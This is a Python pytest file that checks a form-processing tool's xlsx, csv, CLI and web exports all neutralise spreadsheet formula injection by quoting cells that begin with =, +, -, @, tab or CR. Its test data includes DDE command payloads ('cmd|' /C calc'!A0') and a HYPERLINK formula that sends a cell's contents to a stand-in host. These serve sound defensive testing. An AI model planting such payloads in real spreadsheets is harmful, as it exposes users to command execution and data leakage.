"""No exported spreadsheet cell is a formula (issue 15 point 6): a form's text that starts
with = + - @ or a tab/CR is written as text by every xlsx and csv writer — the export
workbook and csv, the official-table workbook, ``jixiao audit -f csv`` and the web's
findings export."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient
from openpyxl.workbook import Workbook

from jixiao.cli.app import main
from jixiao.export import build_workbook, write_csv
from jixiao.model import Form
from jixiao.parse import parse_file
from jixiao.render.inert_cells import inert_csv_text, looks_like_formula
from jixiao.render.xlsx import xlsx_bytes
from jixiao.service import collect_files, run_import
from jixiao.store import Store, open_store
from jixiao.web import create_app
from support import LOCAL

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "000_52d2d39b8e94208b.txt"
PROJECT = '=HYPERLINK("http://x.example/?"&B2,"点击")'
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5.00", "-5.00"),
        ("+3.5%", "+3.5%"),
        ("-", "-"),
        ("信息化运维项目", "信息化运维项目"),
        ("", ""),
    ],
)
def test_csv_text(text: str, written: str) -> None:
    assert inert_csv_text(text) == written
    assert looks_like_formula(text) == (text[:1] in ("=", "+", "-", "@", "\t", "\r"))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A sample whose project and unit a spreadsheet would run as formulas."""
    text = EXAMPLE.read_text("utf-8")
    text = text.replace("信息化运维项目", PROJECT, 1).replace("上海市人才服务中心", UNIT, 1)
    path = tmp_path_factory.mktemp("hostile") / "hostile.txt"
    path.write_text(text, "utf-8")
    return path


@pytest.fixture(scope="module")
def forms(hostile: Path) -> list[Form]:
    found = list(parse_file(hostile).forms)
    assert found[0].project == PROJECT and found[0].unit == UNIT
    return found


def _no_formula(workbook: Workbook) -> int:
    """Asserts no cell is a formula; returns how many hostile texts were seen."""
    seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                    seen += cell.value in (PROJECT, UNIT)
    return seen


def _reread(workbook: Workbook) -> Workbook:
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return openpyxl.load_workbook(buffer)


def test_export_workbook(forms: list[Form]) -> None:
    assert _no_formula(_reread(build_workbook(forms))) >= 4  # 汇总, 指标 … and the form's sheet


def test_official_workbook(forms: list[Form]) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(forms[:1])))
    assert _no_formula(workbook) >= 1


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_export_csv(forms: list[Form], tmp_path: Path) -> None:
    written = write_csv(forms, tmp_path / "out")
    cells = [c for p in written for c in _csv_cells(p.read_text("utf-8-sig"))]
    assert "'" + PROJECT in cells and "'" + UNIT in cells
    assert PROJECT not in cells and UNIT not in cells


def test_cli_export_and_audit(
    hostile: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = str(tmp_path / "x.db")
    with open_store(db) as store:
        run_import(store, [hostile], jobs=1)
    for fmt in ("xlsx", "csv"):
        out = tmp_path / f"export.{fmt}"
        table = ["--table", "forms"] if fmt == "csv" else []
        with pytest.raises(SystemExit) as done:
            main(["export", "--db", db, "--to", fmt, *table, "-o", str(out)])
        assert done.value.code in (0, None)
        if fmt == "xlsx":
            assert _no_formula(openpyxl.load_workbook(out)) >= 2
        else:
            cells = _csv_cells(out.read_text("utf-8-sig"))
            assert "'" + PROJECT in cells and PROJECT not in cells
    capsys.readouterr()
    with pytest.raises(SystemExit):
        main(["audit", str(hostile), "-f", "csv"])
    cells = _csv_cells(capsys.readouterr().out.lstrip("\ufeff"))
    assert "'" + PROJECT in cells and PROJECT not in cells


@pytest.fixture(scope="module")
def hostile_store(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    path = tmp_path_factory.mktemp("hostile-db") / "x.db"
    with open_store(str(path)) as store:
        run_import(store, collect_files([hostile]), jobs=1)
        yield store


def test_web_findings_export(hostile_store: Store) -> None:
    with TestClient(create_app(hostile_store), base_url=LOCAL) as web:
        xlsx = web.get("/findings/export.xlsx")
        assert xlsx.status_code == 200
        assert _no_formula(openpyxl.load_workbook(io.BytesIO(xlsx.content))) >= 1
        text = web.get("/findings/export.csv").content.decode("utf-8-sig")
        assert "'" + PROJECT in _csv_cells(text) and PROJECT not in _csv_cells(text)
        form_id = hostile_store.form_ids()[0]
        sheet = web.get(f"/forms/{form_id}/export.xlsx")
        assert _no_formula(openpyxl.load_workbook(io.BytesIO(sheet.content))) >= 1


def test_every_spreadsheet_writer_goes_through_inert_cells() -> None:
    """A module that writes csv rows or xlsx cells (outside the readers) uses
    jixiao.render.inert_cells: a new writer that forgets it fails here."""
    source = Path(__file__).resolve().parents[1] / "src" / "jixiao"
    writes = re.compile(r"csv\.writer\(|\bsheet\.append\(|\bws\.cell\(|\btarget\.value = ")
    writers = [
        p.relative_to(source).as_posix()
        for p in source.rglob("*.py")
        if "read" not in p.parts and writes.search(p.read_text("utf-8"))
    ]
    assert len(writers) >= 4, writers
    for name in writers:
        assert "inert_" in (source / name).read_text("utf-8"), name
